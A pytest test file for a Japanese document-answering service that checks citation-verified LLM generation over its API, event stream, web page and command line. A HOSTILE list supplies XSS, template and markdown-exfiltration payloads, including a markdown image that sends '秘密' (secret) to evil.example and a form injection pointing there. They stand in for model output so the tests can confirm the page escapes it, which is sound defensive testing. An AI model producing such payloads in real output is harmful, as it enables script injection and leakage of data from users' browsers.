"""Generated answers over HTTP, as a stream, on the page and in the terminal, from a stub."""

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from typing import Any
from urllib.parse import quote

import httpx2
import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.command_line import main
from rag.assistant import Assistant
from rag.generation.llm import Llm
from rag.workplace import Workplace
from tests.api.contract import OFF_TOPIC, UNIVERSITY_FUND, Json, differences
from tests.api.html_page import Element, assert_sound
from tests.api.serving import serving
from tests.stub_llm import NAME, Reply, StubLlm, saying, stub_llm

TRUE = "運用益からの支出上限を年間3,000億円（実質）としている"
FALSE = "運用益からの支出上限を年間5,000億円（実質）としている"
UNCITED = "大学ファンドの運用は順調である"
GENERATION: Json = {
    "status": str,
    "text": str,
    "sentences": [{"text": str, "citations": [int], "verdict": str, "struck": bool, "reason": str}],
    "complete": bool,
    "message": str,
    "message_ja": str,
    "model": str,
    "took_ms": float,
}


@pytest.fixture(scope="module")
def stub() -> Iterator[StubLlm]:
    with stub_llm(saying("")) as stub:
        yield stub


@pytest.fixture(scope="module")
def writing(assistant: Assistant, stub: StubLlm) -> Iterator[TestClient]:
    """The service with a language model."""
    with TestClient(create_app(lambda: assistant, Llm(stub.url, timeout_s=10))) as client:
        yield client


def ask(client: TestClient, question: str = UNIVERSITY_FUND, **more: object) -> Json:
    body = {"question": question, "k": 3, "mode": "generate", **more}
    response = client.post("/v1/ask", json=body)
    assert response.status_code == 200, response.text
    shown: Json = response.json()
    return shown


def page(client: TestClient, question: str = UNIVERSITY_FUND, more: str = "") -> Element:
    response = client.get(f"/?q={quote(question)}{more}")
    assert response.status_code == 200
    return assert_sound(response.text)


# POST /v1/ask


def test_generated_sentences_come_beside_the_verbatim_answer(
    writing: TestClient, stub: StubLlm, answered: Json
) -> None:
    stub.says(f"{TRUE}[1]。{FALSE}[1]。{UNCITED}。")
    shown = ask(writing, k=5)
    assert shown["answer"] == answered["answer"]
    generation = shown["generation"]
    assert generation["status"] == "generated"
    assert generation["text"] == f"{TRUE}[1]。"
    assert [(s["text"], s["citations"], s["verdict"]) for s in generation["sentences"]] == [
        (f"{TRUE}。", [1], "supported"),
        (f"{FALSE}。", [1], "contradicted"),
        (f"{UNCITED}。", [], None),
    ]
    assert [sentence["struck"] for sentence in generation["sentences"]] == [False, True, True]
    assert "3,000億円" in generation["sentences"][1]["reason"]
    assert (generation["complete"], generation["model"]) == (True, NAME)


def test_a_generated_answer_has_the_fields_of_the_contract(
    writing: TestClient, stub: StubLlm
) -> None:
    stub.says(f"{FALSE}[1]。")
    generation = ask(writing)["generation"]
    assert (generation["status"], generation["text"]) == ("nothing_stands", None)
    assert differences({**generation, "text": ""}, GENERATION) == []


def test_unless_asked_for_no_model_is_asked(writing: TestClient, stub: StubLlm) -> None:
    before = len(stub.requests)
    for more in ({}, {"mode": "extract"}):
        shown = writing.post("/v1/ask", json={"question": UNIVERSITY_FUND, **more}).json()
        assert shown["generation"] is None
    assert len(stub.requests) == before


def test_another_mode_is_refused_in_both_languages(writing: TestClient) -> None:
    response = writing.post("/v1/ask", json={"question": "大学", "mode": "invent"})
    assert response.status_code == 422
    (entry,) = response.json()["errors"]
    assert entry["field"] == "mode"


def test_without_a_model_the_answer_comes_and_the_setting_is_named(client: TestClient) -> None:
    shown = ask(client)
    assert shown["status"] == "answered"
    assert shown["generation"]["status"] == "off"
    assert "SEISAKU_LLM_URL" in shown["generation"]["message_ja"]


def test_not_found_is_not_written_around(writing: TestClient, stub: StubLlm) -> None:
    before = len(stub.requests)
    shown = ask(writing, OFF_TOPIC)
    assert (shown["status"], shown["generation"]["status"]) == ("not_found", "not_found")
    assert len(stub.requests) == before


def test_only_the_passages_that_are_given_out_can_be_cited(
    writing: TestClient, stub: StubLlm
) -> None:
    stub.says(f"{TRUE}[2]。")
    generation = ask(writing, k=1)["generation"]
    assert generation["status"] == "nothing_stands"
    assert "[2]の箇所はない" in generation["sentences"][0]["reason"]


@pytest.mark.parametrize("status", [302, 401, 429, 500])
def test_a_model_that_fails_breaks_no_answer(
    writing: TestClient, stub: StubLlm, answered: Json, status: int
) -> None:
    stub.behave = lambda reply: reply.begin("text/html", status)
    shown = ask(writing, k=5)
    assert shown["answer"] == answered["answer"]
    assert shown["generation"]["status"] == "failed"


# POST /v1/ask/stream


def events(client: TestClient, question: str = UNIVERSITY_FUND, **more: object) -> list[Any]:
    """The events of a stream, as pairs of name and data."""
    response = client.post("/v1/ask/stream", json={"question": question, "k": 3, **more})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/event-stream")
    found = []
    for event in response.text.replace("\r\n", "\n").split("\n\n"):
        lines = [line.partition(": ") for line in event.splitlines() if not line.startswith(":")]
        fields = {name: value for name, _, value in lines}
        if fields:
            found.append((fields["event"], json.loads(fields["data"])))
    return found


def test_a_stream_sends_the_answer_then_sentences_then_the_whole(
    writing: TestClient, stub: StubLlm
) -> None:
    stub.says(f"{TRUE}[1]。{FALSE}[1]。")
    found = events(writing)
    assert [name for name, _ in found] == ["answer", "sentence", "sentence", "done"]
    whole = ask(writing)
    answer, first, second, done = (data for _, data in found)
    assert answer["generation"] is None
    assert answer["answer"] == whole["answer"]
    assert answer["passages"] == whole["passages"]
    assert [first, second] == done["sentences"] == whole["generation"]["sentences"]
    assert (first["struck"], second["struck"]) == (False, True)
    assert done["text"] == whole["generation"]["text"]


@pytest.mark.parametrize(
    ("question", "more", "status"),
    [(OFF_TOPIC, {}, "not_found"), (UNIVERSITY_FUND, {"mode": "extract"}, None)],
)
def test_a_stream_ends_with_done_where_nothing_is_written(
    writing: TestClient, question: str, more: Json, status: str | None
) -> None:
    found = events(writing, question, **more)
    assert [name for name, _ in found] == ["answer", "done"]
    assert (found[1][1] and found[1][1]["status"]) == status


def test_a_stream_without_a_model_says_so(client: TestClient) -> None:
    found = events(client)
    assert [name for name, _ in found] == ["answer", "done"]
    assert found[1][1]["status"] == "off"


@pytest.mark.parametrize(
    "body",
    [{"question": "　"}, {"question": "大学", "k": 0}, {"question": "大学", "mode": "x"}, {}],
)
def test_what_cannot_be_asked_is_a_problem_and_no_stream(writing: TestClient, body: Json) -> None:
    response = writing.post("/v1/ask/stream", json=body)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"


@pytest.fixture
def served(assistant: Assistant, stub: StubLlm) -> Iterator[str]:
    """The service on a port, one generated answer at a time."""
    with serving(create_app(lambda: assistant, Llm(stub.url, timeout_s=40, at_once=1))) as url:
        yield url


def test_the_verbatim_answer_and_each_sentence_come_while_the_model_writes(
    served: str, stub: StubLlm
) -> None:
    may_go_on = threading.Event()

    def behave(reply: Reply) -> None:
        reply.begin()
        assert may_go_on.wait(10)
        reply.send_chunk(f"{TRUE}[1]。{FALSE[:3]}")
        may_go_on.clear()
        assert may_go_on.wait(10)
        reply.send_chunk(f"{FALSE[3:]}[1]。", "stop")

    stub.behave = behave
    body = {"question": UNIVERSITY_FUND, "k": 3}
    with (
        httpx2.Client(timeout=20, trust_env=False) as client,
        client.sse(f"{served}/v1/ask/stream", method="POST", json=body) as source,
    ):
        names = []
        for event in source:
            names.append(event.event)
            if event.event in ("answer", "sentence"):
                may_go_on.set()
    assert names == ["answer", "sentence", "sentence", "done"]


def test_a_reader_who_goes_away_leaves_a_free_place(served: str, stub: StubLlm) -> None:
    asked = threading.Event()

    def behave(reply: Reply) -> None:
        reply.begin()
        asked.set()
        for _ in range(2000):
            reply.send_chunk("研")
            time.sleep(0.02)

    stub.behave = behave
    body = {"question": UNIVERSITY_FUND, "k": 3, "mode": "generate"}
    with httpx2.Client(timeout=20, trust_env=False) as client:
        with client.sse(f"{served}/v1/ask/stream", method="POST", json=body) as source:
            events_read = iter(source)  # dropped, it would close the connection at once
            assert next(events_read).event == "answer"
            assert asked.wait(5)
        stub.says(f"{TRUE}[1]。")
        deadline = time.monotonic() + 5  # the model has 40 s to write
        status = "busy"
        while status == "busy" and time.monotonic() < deadline:
            status = client.post(f"{served}/v1/ask", json=body).json()["generation"]["status"]
            time.sleep(0.1)
    assert status == "generated"


# The page


def test_the_switch_is_there_only_where_a_model_is_set_up(
    writing: TestClient, client: TestClient
) -> None:
    box = page(writing, more="&mode=generate").one("input", name="mode")
    assert (box.attributes["type"], box.attributes["value"]) == ("checkbox", "generate")
    assert "checked" in box.attributes
    assert "checked" not in page(writing).one("input", name="mode").attributes
    assert page(client).all("input", name="mode") == []


def test_the_page_labels_generated_text_and_strikes_out_what_does_not_stand(
    writing: TestClient, stub: StubLlm
) -> None:
    stub.says(f"{TRUE}[1]。{FALSE}[1]。")
    shown = page(writing, more="&mode=generate")
    part = shown.one("section", class_="generated")
    assert "生成AIの文" in part.one("h2").text()
    stands, struck = part.all("li")
    assert stands.text().strip() == f"{TRUE}。[1]"
    target = stands.one("a").attributes["href"]
    assert target == "#passage-1"
    assert shown.one("li", id=target[1:])
    assert struck.one("del").text() == f"{FALSE}。"
    assert "3,000億円" in struck.one("small").text()
    assert struck.all("a") == []
    assert "運用益からの支出上限" in shown.one("section", class_="answer").text()


def test_the_page_says_where_nothing_stands_that_the_verbatim_answer_is_given(
    writing: TestClient, stub: StubLlm
) -> None:
    stub.says(f"{FALSE}[1]。")
    shown = page(writing, more="&mode=generate")
    assert "原文の抜き出しで答えました" in shown.one("section", class_="generated").text()
    assert "3,000億円" in shown.one("section", class_="answer").text()


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![図](https://evil.example/?q=秘密)",
    "[続き](javascript:alert)",
    "{{ 7*7 }}",
    "</del></li><form action=//evil.example>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markup_of_a_model_is_text_on_the_page(
    writing: TestClient, stub: StubLlm, hostile: str
) -> None:
    before = page(writing)
    stub.says(f"{hostile}{TRUE}[1]。{TRUE}{hostile}[1]。")
    shown = page(writing, more="&mode=generate")
    part = shown.one("section", class_="generated")
    tags = {element.tag for element in part.walk()}
    assert tags <= {"section", "h2", "span", "ol", "li", "del", "small", "p"}
    for tag in ("script", "img", "form"):
        assert len(shown.all(tag)) == len(before.all(tag))
    assert all("evil" not in a.attributes["href"] for a in shown.all("a"))


@pytest.mark.parametrize("question", [OFF_TOPIC, "　"])
def test_the_page_generates_nothing_where_nothing_can_be_answered(
    writing: TestClient, stub: StubLlm, question: str
) -> None:
    before = len(stub.requests)
    assert writing.get(f"/?q={quote(question)}&mode=generate").status_code in (200, 422)
    assert len(stub.requests) == before


def test_the_foot_of_the_page_says_whether_text_may_be_generated(
    writing: TestClient, client: TestClient
) -> None:
    assert "文を作ることはありません" in page(client).one("footer").text()
    assert "生成AIの文は、選んだときだけ" in page(writing).one("footer").text()


# The command


@pytest.fixture
def seisaku(
    workplace: Workplace, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., tuple[int, str, str]]:
    """Run `seisaku` here, with these settings; what it printed."""

    def run(*arguments: str, **environment: str) -> tuple[int, str, str]:
        monkeypatch.setenv("SEISAKU_DATA", str(workplace.data_folder))
        for name, value in environment.items():
            monkeypatch.setenv(name, value)
        monkeypatch.setattr("sys.argv", ["seisaku", *arguments])
        with pytest.raises(SystemExit) as ended:
            main()
        told = capsys.readouterr()
        return int(ended.value.code or 0), told.out, told.err

    return run


Seisaku = Callable[..., tuple[int, str, str]]


def test_the_command_generates_where_a_model_is_set_up(seisaku: Seisaku, stub: StubLlm) -> None:
    stub.says(f"{TRUE}[1]。{FALSE}[1]。")
    code, out, _ = seisaku("ask", UNIVERSITY_FUND, "--generate", SEISAKU_LLM_URL=stub.url)
    assert code == 0
    printed = "".join(out.split())
    assert "まとめ（生成AIの文）" in printed
    assert f"{TRUE}。[1]" in printed
    assert "取り消し:引用した箇所と食い違うため" in printed


def test_the_command_prints_json_with_the_generation(seisaku: Seisaku, stub: StubLlm) -> None:
    stub.says(f"{TRUE}[1]。")
    _, out, _ = seisaku("ask", UNIVERSITY_FUND, "--generate", "--json", SEISAKU_LLM_URL=stub.url)
    assert json.loads(out)["generation"]["text"] == f"{TRUE}[1]。"


def test_the_command_without_a_model_answers_and_names_the_setting(seisaku: Seisaku) -> None:
    code, out, _ = seisaku("ask", UNIVERSITY_FUND, "--generate")
    assert code == 0
    assert "SEISAKU_LLM_URL" in out
    assert "3,000億円" in out


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("127.0.0.1:8080", True),
        ("ftp://127.0.0.1/v1", True),
        ("http://", True),
        ("http://user:geheim@127.0.0.1/v1", False),
        ("http://127.0.0.1/v1?key=geheim", False),
    ],
)
def test_an_address_that_is_none_is_told(seisaku: Seisaku, url: str, shown: bool) -> None:
    code, _, err = seisaku("documents", SEISAKU_LLM_URL=url)
    assert code == 2
    assert "SEISAKU_LLM_URL" in err
    assert (url in "".join(err.split())) == shown


def test_a_blank_address_is_no_model(seisaku: Seisaku) -> None:
    code, out, _ = seisaku("ask", UNIVERSITY_FUND, "--generate", SEISAKU_LLM_URL=" ")
    assert code == 0
    assert "生成AIが設定されていない" in out


def test_a_service_that_is_down_takes_a_moment_and_no_answer(seisaku: Seisaku) -> None:
    with closing(socket.socket()) as free:
        free.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{free.getsockname()[1]}/v1"
    code, out, _ = seisaku("ask", UNIVERSITY_FUND, "--generate", SEISAKU_LLM_URL=url)
    assert code == 0
    assert "つながりません" in out
    assert "3,000億円" in out
